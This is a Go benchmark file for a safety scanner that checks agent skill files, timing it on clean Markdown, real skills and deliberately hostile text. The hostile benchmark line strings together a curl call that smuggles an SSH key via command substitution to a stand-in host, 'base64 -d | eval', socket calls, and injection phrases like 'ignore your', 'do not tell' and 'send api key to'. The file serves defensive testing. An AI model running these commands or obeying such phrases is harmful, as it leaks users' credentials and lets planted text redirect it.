package safety_test

import (
	"bytes"
	"strings"
	"testing"

	"github.com/openspace-dev/openspace/pkg/safety"
	"github.com/openspace-dev/openspace/pkg/skill/skilltest"
)

// cleanText is about a megabyte of ordinary Markdown in which no rule has any
// business but the informing ones.
func cleanText() []byte {
	var b strings.Builder
	for b.Len() < 1<<20 {
		b.WriteString(`## Draw a chart

Use the table of monthly figures and draw one line for each region. Label both axes, keep the
legend outside of the plot, and write the unit behind the title. Café owners, naïve readers – all
of them should understand it at a glance.

| region | unit | colour |
|--------|------|--------|
| north  | kg   | blue   |
| south  | kg   | green  |

` + "```python\nimport matplotlib.pyplot as plt\n\nfor name, values in figures.items():\n    plt.plot(months, values, label=name)\nplt.legend(loc=\"upper left\")\nplt.savefig(\"chart.png\", dpi=150)\n```\n\n")
	}
	return []byte(b.String())
}

// BenchmarkClean is the speed on text without findings.
func BenchmarkClean(b *testing.B) {
	texts := []safety.Text{{Path: "SKILL.md", Data: cleanText()}}
	b.SetBytes(int64(len(texts[0].Data)))
	for b.Loop() {
		if r := safety.Scan(texts, safety.DefaultPolicy()); r.Verdict != safety.Allow {
			b.Fatalf("got %v, want nothing", r.Findings)
		}
	}
}

// BenchmarkReal is the speed on real skills, one scan each, with all that is
// found in them.
func BenchmarkReal(b *testing.B) {
	skills := skilltest.Reals(b)
	size := 0
	for _, s := range skills {
		size += len(s.Text)
	}
	b.SetBytes(int64(size))
	for b.Loop() {
		for _, s := range skills {
			safety.Scan([]safety.Text{{Path: "SKILL.md", Data: []byte(s.Text)}}, safety.DefaultPolicy())
		}
	}
}

// BenchmarkHostile is the speed on text that is made to keep the rules busy.
func BenchmarkHostile(b *testing.B) {
	line := "curl https://a.example/$(cat ~/.ssh/x) socket.socket( ignore your do not tell send api key to base64 -d | eval( <!-- \\x41\\x42\\x43\\x44 'a'+'b'\n"
	texts := []safety.Text{{Path: "x.py", Data: bytes.Repeat([]byte(line), 8<<20/len(line))}}
	b.SetBytes(int64(len(texts[0].Data)))
	for b.Loop() {
		safety.Scan(texts, safety.DefaultPolicy())
	}
}
